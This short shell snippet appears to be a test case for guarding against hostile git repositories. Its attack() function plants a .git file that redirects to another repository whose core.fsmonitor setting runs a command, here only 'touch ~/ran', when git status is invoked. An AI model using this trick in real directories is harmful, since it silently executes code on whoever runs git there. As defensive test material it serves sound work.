# H2-file: the same as a file that leads to a directory of another name
attack() {
	git init -q elsewhere
	git -C elsewhere config core.fsmonitor 'touch ~/ran; false'
	git -C elsewhere config core.worktree "$PWD"
	echo 'gitdir: elsewhere/.git' >.git
} >/dev/null 2>&1
escaped() {
	(cd "$P" && git status) >/dev/null 2>&1
	[ -e "$H/ran" ]
}
